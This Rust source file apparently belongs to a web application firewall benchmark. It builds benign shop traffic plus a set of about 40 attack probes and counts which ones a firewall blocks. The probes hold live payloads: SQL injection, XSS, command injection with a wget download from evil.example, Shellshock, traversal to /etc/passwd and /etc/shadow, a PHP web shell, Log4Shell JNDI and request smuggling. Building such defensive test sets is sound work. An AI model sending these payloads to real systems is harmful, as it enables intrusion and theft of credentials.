//! The `waf` scenario's traffic (report 001: 80 % GET / 20 % POST over
//! HTTPS) and its attack set.
//!
//! Benign traffic looks like a shop's: GETs with a query string (search,
//! paging, sorting), POSTs of HTML forms (checkout, contact, sign-up) with
//! a few hundred bytes of urlencoded fields, browser-like Accept headers.
//! The CRS inspects every argument of them, so the WAF does its real work
//! per request, and none of them may be blocked: the scenario's runs are
//! invalid when a DUT answers a benign request with anything but 200.
//!
//! The attack set is sent once to every WAF target (one connection per
//! request) and the report counts what each blocked (403) and which benign
//! requests it refused.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::client::Connector;
use crate::json::{obj, Json};
use crate::tls::{TlsOptions, TlsVersion};

pub const FORM_TYPE: &str = "application/x-www-form-urlencoded";

/// Benign HTML form posts (urlencoded), 250 to 450 bytes each.
pub const FORM_BODIES: &[&str] = &[
    // Checkout.
    "first_name=Jane&last_name=Doe&email=jane.doe%40example.com&phone=%2B44+20+7946+0958\
&address_line1=221B+Baker+Street&address_line2=Flat+2&city=London&postcode=NW1+6XE\
&country=GB&shipping_method=standard&gift_wrap=0&newsletter=1\
&cart_id=7f3c9a12e4b04d5f&csrf_token=c2VjdXJlLXRva2VuLTg4MjE3MzQ5NTU",
    // Contact form.
    "name=Peter+Miller&email=peter.miller%40example.org&subject=Delivery+date\
&order_number=100234981&message=Hello%2C+I+ordered+two+pairs+of+running+shoes+last+week\
+and+would+like+to+know+when+they+will+arrive.+Could+you+send+me+the+tracking+number%3F\
+Thank+you+and+kind+regards%2C+Peter&consent=yes&csrf_token=9d1e77b2a0c34f6e8b5a",
    // Sign-up.
    "username=maria_garcia85&email=maria.garcia%40example.net&password=Tr4vel-Spring-2024\
&password_confirm=Tr4vel-Spring-2024&birth_year=1985&language=es&timezone=Europe%2FMadrid\
&marketing_opt_in=false&terms=accepted&referral_code=SPRING24&csrf_token=5b8f0c2d6e1a4397",
    // Product review.
    "product_id=48213&rating=4&title=Comfortable+and+light&review=I+have+worn+these+for+\
three+weeks+on+my+daily+runs.+They+are+light%2C+the+sole+grips+well+on+wet+roads+and+the+\
size+matches+the+chart.+Only+the+laces+are+a+bit+short.&display_name=Tom+K.&verified=1\
&csrf_token=0a9e3f71c2d84b56",
    // Search filters posted by a faceted search page. (Not "northwind" as a
    // brand: CRS 942140 takes it for the sample database's name.)
    "category=shoes&subcategory=running&brand%5B%5D=acme&brand%5B%5D=trailpeak&size=42\
&color=blue&price_min=40&price_max=120&sort=price_asc&page=2&per_page=24&in_stock=1\
&session_region=eu-west&ab_bucket=b&utm_source=newsletter&utm_medium=email&utm_campaign=spring",
];

/// Query strings of benign GETs, appended to the case's object path.
pub const QUERIES: &[&str] = &[
    "?q=running+shoes&category=sport&page=2&sort=price_asc",
    "?product_id=48213&color=blue&size=42&ref=homepage",
    "?lang=en-GB&currency=GBP&utm_source=newsletter&utm_medium=email&utm_campaign=spring",
    "?search=garden+chairs&min_price=20&max_price=150&in_stock=1&view=grid",
    "?article=how-to-choose-a-tent&section=guides&comments=show",
];

/// Headers a browser sends with every request (the load adds Host,
/// User-Agent, and Content-Type / Content-Length on POSTs).
pub fn browser_headers() -> Vec<(String, String)> {
    vec![
        (
            "Accept".into(),
            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8".into(),
        ),
        ("Accept-Language".into(), "en-GB,en;q=0.9".into()),
    ]
}

/// The case's GET paths: the object path with each query string.
pub fn paths(object: &str) -> Vec<String> {
    QUERIES.iter().map(|q| format!("{object}{q}")).collect()
}

const UA: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";

/// One request of the attack (or benign) set.
pub struct Probe {
    pub category: &'static str,
    pub name: &'static str,
    pub method: &'static str,
    pub target: &'static str,
    /// Extra header lines ("Name: value"); a User-Agent here replaces the
    /// browser's.
    pub headers: &'static [&'static str],
    /// A urlencoded form body (POST).
    pub body: Option<&'static str>,
}

const fn get(category: &'static str, name: &'static str, target: &'static str) -> Probe {
    Probe {
        category,
        name,
        method: "GET",
        target,
        headers: &[],
        body: None,
    }
}

const fn hdr(
    category: &'static str,
    name: &'static str,
    headers: &'static [&'static str],
) -> Probe {
    Probe {
        category,
        name,
        method: "GET",
        target: "/size/128",
        headers,
        body: None,
    }
}

const fn post(category: &'static str, name: &'static str, body: &'static str) -> Probe {
    Probe {
        category,
        name,
        method: "POST",
        target: "/size/128",
        headers: &[],
        body: Some(body),
    }
}

/// Attacks every CRS-based WAF at paranoia 1 should block: the classes of
/// report 001's WAF check list (SQL injection, XSS, command injection,
/// protocol compliance) and the CRS's other families.
pub const ATTACKS: &[Probe] = &[
    get("sqli", "tautology in a parameter", "/size/128?id=1%27%20OR%20%271%27%3D%271"),
    get("sqli", "UNION SELECT", "/size/128?id=1%20UNION%20SELECT%20username,password%20FROM%20users--"),
    get("sqli", "stacked DROP TABLE", "/size/128?q=1%27;%20DROP%20TABLE%20users;--"),
    get("sqli", "time-based blind (SLEEP)", "/size/128?id=1%20AND%20SLEEP(5)"),
    get("sqli", "BENCHMARK in a comment-terminated query", "/size/128?id=1)%20or%20benchmark(10000000,MD5(1))%23"),
    post("sqli", "login bypass in a form body", "username=admin%27--&password=x"),
    hdr("sqli", "tautology in a cookie", &["Cookie: session=1%27%20or%20%271%27%3D%271"]),
    get("xss", "script tag", "/size/128?q=%3Cscript%3Ealert(1)%3C/script%3E"),
    get("xss", "img onerror", "/size/128?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
    get("xss", "javascript: URI", "/size/128?next=javascript:alert(document.cookie)"),
    get("xss", "iframe javascript src", "/size/128?q=%3Ciframe%20src%3D%22javascript%3Aalert(1)%22%3E"),
    post("xss", "svg onload in a form body", "comment=%3Csvg%2Fonload%3Dalert(1)%3E&name=x"),
    hdr("xss", "script in the Referer", &["Referer: https://example.com/?q=<script>alert(1)</script>"]),
    get("rce", "; cat /etc/passwd", "/size/128?cmd=;cat%20/etc/passwd"),
    get("rce", "| id", "/size/128?host=127.0.0.1%7Cid"),
    get("rce", "$(whoami)", "/size/128?x=$(whoami)"),
    get("rce", "backticks uname", "/size/128?x=%60uname%20-a%60"),
    post("rce", "wget in a form body", "ip=8.8.8.8%3Bwget%20http%3A%2F%2Fevil.example%2Fx.sh%20-O%20%2Ftmp%2Fx"),
    hdr("rce", "Shellshock User-Agent", &["User-Agent: () { :; }; /bin/bash -c \"id\""]),
    get("lfi", "../../../../etc/passwd", "/size/128?file=../../../../etc/passwd"),
    get("lfi", "encoded traversal to /etc/shadow", "/size/128?file=..%2f..%2f..%2fetc%2fshadow"),
    get("lfi", "....// traversal", "/size/128?file=....//....//....//etc/passwd"),
    get("lfi", "/proc/self/environ", "/size/128?page=/proc/self/environ"),
    get("lfi", "restricted file /.env", "/.env"),
    get("lfi", "restricted file /.git/config", "/.git/config"),
    get("rfi", "remote include with a trailing ?", "/size/128?page=http://203.0.113.7/shell.txt?"),
    get("php", "PHP open tag with system()", "/size/128?x=%3C%3Fphp%20system(%24_GET%5B%27c%27%5D)%3B%20%3F%3E"),
    get("php", "php://filter wrapper", "/size/128?f=php://filter/convert.base64-encode/resource=index.php"),
    post("php", "eval(base64_decode()) in a form body", "data=eval(base64_decode(%27cGhwaW5mbygpOw%3D%3D%27))%3B"),
    hdr("java", "Log4Shell JNDI in the User-Agent", &["User-Agent: ${jndi:ldap://203.0.113.7/a}"]),
    hdr("scanner", "sqlmap", &["User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)"]),
    hdr("scanner", "Nikto", &["User-Agent: Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"]),
    hdr("scanner", "Nmap Scripting Engine", &["User-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"]),
    hdr("scanner", "masscan", &["User-Agent: masscan/1.3 (https://github.com/robertdavidgraham/masscan)"]),
    hdr("scanner", "WPScan", &["User-Agent: WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)"]),
    hdr("scanner", "Nuclei", &["User-Agent: Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"]),
    get("protocol", "CRLF injection (response splitting)", "/size/128?lang=en%0d%0aSet-Cookie:%20evil=1"),
    post("protocol", "request smuggled in a form body", "x=1%0d%0a%0d%0aGET%20/admin%20HTTP/1.1%0d%0aHost:%20internal%0d%0a"),
    get("protocol", "NUL byte in a parameter", "/size/128?file=index.php%00.jpg"),
    Probe {
        category: "protocol",
        name: "method not allowed (PROPFIND)",
        method: "PROPFIND",
        target: "/size/128",
        headers: &[],
        body: None,
    },
];

/// Benign requests that must pass: the scenario's own GETs and form POSTs
/// (built from QUERIES and FORM_BODIES by `benign`), plus these.
const BENIGN_EXTRA: &[Probe] = &[
    get(
        "benign",
        "search with an apostrophe",
        "/size/128?q=O%27Reilly+books&page=1",
    ),
    get("benign", "plain page", "/size/128"),
    hdr(
        "benign",
        "analytics cookies",
        &["Cookie: _ga=GA1.2.1234567890.1700000000; consent=analytics%2Cads; cart=3"],
    ),
];

/// What one DUT answered to one probe.
pub struct Answer {
    pub category: String,
    pub name: String,
    pub status: Option<u16>,
    pub error: Option<String>,
}

fn raw(method: &str, target: &str, headers: &[String], body: Option<&[u8]>) -> Vec<u8> {
    let mut r = format!(
        "{method} {target} HTTP/1.1\r\nHost: {}\r\n",
        crate::dut::TLS_NAME
    );
    if !headers.iter().any(|h| {
        h.get(..11)
            .is_some_and(|p| p.eq_ignore_ascii_case("user-agent:"))
    }) {
        r.push_str(&format!("User-Agent: {UA}\r\n"));
    }
    for (k, v) in browser_headers() {
        r.push_str(&format!("{k}: {v}\r\n"));
    }
    for h in headers {
        r.push_str(h);
        r.push_str("\r\n");
    }
    if let Some(b) = body {
        r.push_str(&format!(
            "Content-Type: {FORM_TYPE}\r\nContent-Length: {}\r\n",
            b.len()
        ));
    }
    r.push_str("Connection: close\r\n\r\n");
    let mut v = r.into_bytes();
    if let Some(b) = body {
        v.extend_from_slice(b);
    }
    v
}

/// (category, name, request) of every attack.
pub fn attacks() -> Vec<(String, String, Vec<u8>)> {
    ATTACKS.iter().map(build).collect()
}

fn build(p: &Probe) -> (String, String, Vec<u8>) {
    let h: Vec<String> = p.headers.iter().map(|s| s.to_string()).collect();
    (
        p.category.into(),
        p.name.into(),
        raw(p.method, p.target, &h, p.body.map(str::as_bytes)),
    )
}

/// The benign set: the load's GETs and POSTs for `object`, and a few more.
pub fn benign(object: &str) -> Vec<(String, String, Vec<u8>)> {
    let mut v = Vec::new();
    for (i, path) in paths(object).iter().enumerate() {
        v.push((
            "benign".into(),
            format!("GET {}", &QUERIES[i][..QUERIES[i].len().min(40)]),
            raw("GET", path, &[], None),
        ));
    }
    for (i, f) in FORM_BODIES.iter().enumerate() {
        v.push((
            "benign".into(),
            format!("form POST {} ({} B)", i + 1, f.len()),
            raw("POST", object, &[], Some(f.as_bytes())),
        ));
    }
    v.extend(BENIGN_EXTRA.iter().map(build));
    v
}

/// Sends each request once, on its own TLS 1.3 connection, and reads the
/// status line of the answer.
pub fn send_all(addr: SocketAddr, reqs: &[(String, String, Vec<u8>)]) -> Vec<Answer> {
    let opts = TlsOptions {
        version: Some(TlsVersion::V13),
        cipher: Some(crate::dut::TLS13_SUITE.into()),
        ca_file: None,
        sni: crate::dut::TLS_NAME.into(),
        resume: 0,
        groups: Vec::new(),
    };
    let fail = |e: String| {
        reqs.iter()
            .map(|(c, n, _)| Answer {
                category: c.clone(),
                name: n.clone(),
                status: None,
                error: Some(e.clone()),
            })
            .collect()
    };
    let cfg = match crate::tls::client_config(&opts) {
        Ok(c) => Arc::new(c),
        Err(e) => return fail(e),
    };
    let rt = match tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
    {
        Ok(r) => r,
        Err(e) => return fail(e.to_string()),
    };
    rt.block_on(async {
        let mut out = Vec::new();
        for (c, n, req) in reqs {
            let r = tokio::time::timeout(Duration::from_secs(5), one(&cfg, addr, req)).await;
            let (status, error) = match r {
                Ok(Ok(s)) => (Some(s), None),
                Ok(Err(e)) => (None, Some(e)),
                Err(_) => (None, Some("timeout".into())),
            };
            out.push(Answer {
                category: c.clone(),
                name: n.clone(),
                status,
                error,
            });
        }
        out
    })
}

async fn one(cfg: &Arc<rustls::ClientConfig>, addr: SocketAddr, req: &[u8]) -> Result<u16, String> {
    let tls = crate::tls::Tls::new(cfg.clone(), crate::dut::TLS_NAME, 0)?;
    let mut s = tls.connect(addr, None).await.map_err(|e| e.to_string())?;
    s.write_all(req).await.map_err(|e| e.to_string())?;
    let mut buf = Vec::with_capacity(4096);
    let mut chunk = [0u8; 4096];
    loop {
        if let Some(line_end) = buf.windows(2).position(|w| w == b"\r\n") {
            return parse_status(&buf[..line_end]);
        }
        let n = s.read(&mut chunk).await.map_err(|e| e.to_string())?;
        if n == 0 {
            return Err("closed without an answer".into());
        }
        buf.extend_from_slice(&chunk[..n]);
        if buf.len() > 64 * 1024 {
            return Err("no status line".into());
        }
    }
}

/// "HTTP/1.1 403 Forbidden" -> 403.
pub fn parse_status(line: &[u8]) -> Result<u16, String> {
    let text = String::from_utf8_lossy(line);
    let mut parts = text.split(' ');
    let proto = parts.next().unwrap_or("");
    let code = parts.next().unwrap_or("");
    if !proto.starts_with("HTTP/") {
        return Err(format!("not an HTTP answer: {text}"));
    }
    code.parse::<u16>()
        .map_err(|_| format!("bad status line: {text}"))
}

/// The report's record of one target: the attacks it blocked (403), the
/// benign requests it refused, and every answer.
pub fn summary(target: &str, attacks: &[Answer], benign: &[Answer]) -> Json {
    let blocked = attacks.iter().filter(|a| a.status == Some(403)).count();
    let refused = benign.iter().filter(|a| a.status != Some(200)).count();
    let list = |v: &[Answer]| {
        Json::Arr(
            v.iter()
                .map(|a| {
                    obj()
                        .set("category", a.category.clone())
                        .set("name", a.name.clone())
                        .set("status", a.status.map(|s| s as f64))
                        .set("error", a.error.clone())
                })
                .collect(),
        )
    };
    obj()
        .set("target", target)
        .set("attacks", attacks.len())
        .set("blocked", blocked)
        .set("benign", benign.len())
        .set("benign_refused", refused)
        .set("attack_answers", list(attacks))
        .set("benign_answers", list(benign))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn forms_are_a_few_hundred_bytes_of_urlencoded_fields() {
        for f in FORM_BODIES {
            assert!((200..=600).contains(&f.len()), "{} B: {f}", f.len());
            assert!(f.split('&').count() >= 6, "{f}");
            assert!(!f.contains(' ') && !f.contains('\n'), "{f}");
        }
    }

    /// The wrk cross-check sends the same mix.
    #[test]
    fn the_wrk_script_has_the_same_forms_and_queries() {
        let lua = include_str!("../scripts/waf-mix.lua");
        for x in FORM_BODIES.iter().chain(QUERIES) {
            assert!(lua.contains(&format!("\"{x}\"")), "waf-mix.lua lacks {x}");
        }
    }

    #[test]
    fn requests_are_well_formed() {
        assert!((30..=50).contains(&ATTACKS.len()));
        for (_, name, r) in attacks().iter().chain(benign("/size/1").iter()) {
            let text = String::from_utf8_lossy(r);
            let head = text.split("\r\n\r\n").next().unwrap_or("");
            assert!(
                head.lines().nth(1).is_some_and(|l| l.starts_with("Host: ")),
                "{name}"
            );
            assert_eq!(
                head.matches("User-Agent:").count(),
                1,
                "{name}: one User-Agent"
            );
            if let Some(cl) = head
                .lines()
                .find_map(|l| l.strip_prefix("Content-Length: "))
            {
                let body = text.split_once("\r\n\r\n").map(|x| x.1).unwrap_or("");
                assert_eq!(cl.parse::<usize>().ok(), Some(body.len()), "{name}");
            }
        }
        assert_eq!(parse_status(b"HTTP/1.1 403 Forbidden"), Ok(403));
        assert!(parse_status(b"SSH-2.0").is_err());
    }
}
